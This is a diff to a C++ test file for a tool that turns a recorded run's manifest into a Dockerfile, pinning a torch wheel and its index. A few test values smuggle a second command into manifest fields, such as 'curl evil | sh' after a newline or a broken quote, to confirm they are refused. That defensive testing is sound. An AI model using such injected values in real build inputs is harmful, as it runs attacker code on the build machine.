@@ -70,6 +70,16 @@ std::string linked_file(const std::string& soname_part) {
   return trim(r.out);
 }
 
+// The version pip installed a wheel's package at: the dist-info beside the
+// package folder holding `lib` (site-packages/torch/lib/libtorch_cpu.so).
+std::string wheel_version(const std::string& lib) {
+  const auto site = std::filesystem::path(lib).parent_path().parent_path().parent_path();
+  auto v = run_command("sed -n 's/^Version: //p' " + shell_quote(site.string()) +
+                       "/torch-*.dist-info/METADATA");
+  EXPECT_EQ(v.exit_code, 0) << v.out;
+  return trim(v.out);
+}
+
 std::string os_release(const std::string& field) {
   auto r = run_command(". /etc/os-release && echo \"$" + field + "\"");
   return trim(r.out);
@@ -200,6 +210,63 @@ TEST(RecreateTest, PythonPackagesGoToPipUnlessDebianHoldsThem) {
 // the package's other versions: the epoch is not in the file name, an
 // architecture-independent package is _all, a security update's folder is
 // pool/updates/..., and each folder is tried on its own archive first.
+// A torch wheel (libraries.torch.*, env/torch_package.h) is pinned from its
+// index into /opt/venv, which the Python packages and trainscope's build
+// then use; a value that would not be a plain version or an https URL in
+// the Dockerfile is refused naming the key; conda and source builds are
+// named, not installed.
+TEST(RecreateTest, ATorchWheelIsPinnedFromItsIndexAndCheckedBeforeItIsWritten) {
+  Manifest m = {{"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
+                {"packages.architecture", "amd64"},
+                {"packages.unowned", "/opt/ts/build/lib/libtrainscope.so"},
+                {"build.trainscope.commit", "abc123"},
+                {"libraries.torch.distribution", "torch==2.15.0+cu128"},
+                {"libraries.torch.installer", "pip"},
+                {"libraries.torch.index", "https://download.pytorch.org/whl/cu128"},
+                {"python.packages.torch", "2.15.0+cu128"},
+                {"python.packages.numpy", "2.4.6"},
+                {"system.os.id", "debian"},
+                {"system.os.codename", "bookworm"}};
+  Recipe r = recipe(m);
+  EXPECT_EQ(r.torch_requirement, "torch==2.15.0+cu128");
+  EXPECT_EQ(r.pip, (std::map<std::string, std::string>{{"numpy", "2.4.6"}}));  // torch: its own
+  const std::string d = dockerfile(r, "run x");
+  EXPECT_NE(d.find(" && /opt/venv/bin/python -m pip install --no-cache-dir --index-url "
+                   "'https://download.pytorch.org/whl/cu128' 'torch==2.15.0+cu128'\n"
+                   "ENV PATH=/opt/venv/bin:$PATH\n"),
+            std::string::npos)
+      << d;
+  EXPECT_NE(
+      d.find("RUN /opt/venv/bin/python -m pip install --no-cache-dir \\\n      'numpy==2.4.6'"),
+      std::string::npos)
+      << d;
+  EXPECT_NE(d.find("-DTRAINSCOPE_TORCH_PYTHON=/opt/venv/bin/python"), std::string::npos) << d;
+  EXPECT_LT(d.find("--index-url"), d.find("git checkout abc123")) << d;
+  // What would become a Dockerfile instruction, from a store's bytes.
+  for (const auto& [key, bad] : std::vector<std::pair<std::string, std::string>>{
+           {"libraries.torch.distribution", "torch==2.15.0\nRUN curl evil | sh"},
+           {"libraries.torch.distribution", "torch==2.15.0' 'evil"},
+           {"libraries.torch.index", "https://pypi.org/simple' && curl evil | sh #"},
+           {"libraries.torch.index", "http://plain.example/simple"}}) {
+    Manifest b = m;
+    b[key] = bad;
+    try {
+      recipe(b);
+      ADD_FAILURE() << key << "=" << bad << " was accepted";
+    } catch (const core::Error& e) {
+      EXPECT_EQ(e.kind(), core::ErrorKind::kUsage);
+      EXPECT_NE(std::string(e.what()).find(key), std::string::npos) << e.what();
+    }
+  }
+  m["libraries.torch.installer"] = "conda";
+  m["libraries.torch.distribution"] = "pytorch==2.15.0";
+  r = recipe(m);
+  EXPECT_EQ(r.torch_requirement, "");
+  EXPECT_NE(
+      dockerfile(r, "run x").find("# Not installed here: torch came from conda (pytorch==2.15.0)."),
+      std::string::npos);
+}
+
 TEST(RecreateTest, PoolPathsComeFromTheOtherVersionsFolders) {
   const std::string debian = "http://deb.debian.org/debian/";
   const std::string security = "http://deb.debian.org/debian-security/";
@@ -529,6 +596,7 @@ class RecreateCliTest : public ::testing::Test {
 // Issue 34: `env recreate` of a demo run names the exact libtorch and BLAS
 // package versions, and its install commands pass apt-get install --simulate;
 // a version apt's index no longer lists comes from the archive's pool.
+// Issue 46: libtorch is the torch wheel's, pinned with its index.
 TEST_F(RecreateCliTest, ADemoRunPinsTheExactLibtorchAndBlasAndEachVerdictMatchesTheArchive) {
   std::ofstream(dir_ / "c.yaml") << "compute: {threads: 1}\n"
                                     "data: {dataset: synthetic, synthetic: {size: 256}}\n"
@@ -544,16 +612,24 @@ TEST_F(RecreateCliTest, ADemoRunPinsTheExactLibtorchAndBlasAndEachVerdictMatches
       " > " + shell_quote(json_file.string()) + "; }");
   const auto j = nlohmann::json::parse(read(json_file));
   const std::string docker = read(out / "Dockerfile");
-  // The same facts, asked independently of dpkg for the files the loader
-  // links libtorch and the BLAS from.
-  const Owned torch = dpkg_owner(linked_file("libtorch_cpu"));
-  const Owned blas = dpkg_owner(linked_file("libblas"));
-  for (const Owned& o : {torch, blas}) {
-    const std::string pin = o.package + "=" + o.version;
-    EXPECT_NE(docker.find("      " + pin + " \\\n"), std::string::npos) << pin << "\n" << docker;
-  }
-  EXPECT_EQ(j.at("libtorch"), nlohmann::json::array({torch.package + "=" + torch.version}));
-  EXPECT_EQ(j.at("blas"), nlohmann::json::array({blas.package + "=" + blas.version}));
+  // The torch the torch half links is a wheel: its pin is the version its
+  // dist-info records (read here by the test), from PyPI's index, installed
+  // into the image's /opt/venv, which trainscope's build then uses; no Debian
+  // package holds libtorch. The C++ runtime it maps is a Debian package,
+  // pinned at the version dpkg-query gives.
+  const std::string torch_pin = "torch==" + wheel_version(linked_file("libtorch_cpu"));
+  EXPECT_EQ(j.at("torch").at("requirement"), torch_pin) << j.at("torch").dump();
+  EXPECT_EQ(j.at("torch").at("index"), "https://pypi.org/simple");
+  EXPECT_TRUE(j.at("torch").at("check").at("ok").get<bool>()) << j.at("torch").dump();
+  EXPECT_NE(docker.find("--index-url 'https://pypi.org/simple' '" + torch_pin + "'\n"),
+            std::string::npos)
+      << docker;
+  EXPECT_EQ(j.at("libtorch"), nlohmann::json::array());
+  const Owned cxx = dpkg_owner(linked_file("libstdc"));
+  EXPECT_NE(docker.find("      " + cxx.package + "=" + cxx.version + " \\\n"), std::string::npos)
+      << docker;
+  // The wheels' BLAS is MKL inside libtorch_cpu: no library of it is mapped.
+  EXPECT_EQ(j.at("blas"), nlohmann::json::array());
   EXPECT_NE(docker.find("debian:" + os_release("VERSION_CODENAME") + "\n"), std::string::npos)
       << docker;
   // Every verdict agrees with the versions apt-cache madison finds in the
@@ -617,24 +693,22 @@ TEST_F(RecreateCliTest, ADemoRunPinsTheExactLibtorchAndBlasAndEachVerdictMatches
   std::cout << from_pool.size() << " of " << j.at("packages").size()
             << " pins are served from the archive's pool here, " << repacked.size()
             << " repacked from this machine\n";
-  // And apt, run by the test, installs exactly these versions on a machine
+  // And apt, run by the test, installs exactly this version on a machine
   // with nothing installed.
   std::ofstream(dir_ / "empty-status").close();
   auto apt = run_command(
       "LC_ALL=C apt-get install --simulate --no-install-recommends -o "
       "Dir::State::status=" +
-      shell_quote((dir_ / "empty-status").string()) + " " + torch.package + "=" + torch.version +
-      " " + blas.package + "=" + blas.version);
+      shell_quote((dir_ / "empty-status").string()) + " " + cxx.package + "=" + cxx.version);
   ASSERT_EQ(apt.exit_code, 0) << apt.out;
-  EXPECT_NE(apt.out.find("Inst " + torch.package + " (" + torch.version + " "), std::string::npos)
-      << apt.out;
-  EXPECT_NE(apt.out.find("Inst " + blas.package + " (" + blas.version + " "), std::string::npos)
+  EXPECT_NE(apt.out.find("Inst " + cxx.package + " (" + cxx.version + " "), std::string::npos)
       << apt.out;
   // Without --check: the table and the libtorch line; no ADD, no COPY, no
   // debs/: the pools are searched and pins repacked only with --check.
   auto text = ts("env recreate tiny --out " + shell_quote((dir_ / "offline").string()));
   ASSERT_EQ(text.exit_code, 0) << text.out;
-  EXPECT_NE(text.out.find("libtorch: " + torch.package + "=" + torch.version), std::string::npos)
+  EXPECT_NE(text.out.find("libtorch: " + torch_pin + " from https://pypi.org/simple"),
+            std::string::npos)
       << text.out;
   const std::string offline = read(dir_ / "offline" / "Dockerfile");
   EXPECT_EQ(offline.find("\nADD "), std::string::npos) << offline;
@@ -645,6 +719,9 @@ TEST_F(RecreateCliTest, ADemoRunPinsTheExactLibtorchAndBlasAndEachVerdictMatches
   // counts them.
   auto again = ts("env recreate tiny --out " + shell_quote(out.string()) + " --check");
   EXPECT_EQ(again.exit_code, 0) << again.out;
+  EXPECT_NE(again.out.find(torch_pin + " from https://pypi.org/simple: pass (the index serves it)"),
+            std::string::npos)
+      << again.out;
   for (const auto& pin : from_pool) {
     EXPECT_NE(again.out.find(pin + ": from the pool, http"), std::string::npos) << again.out;
   }
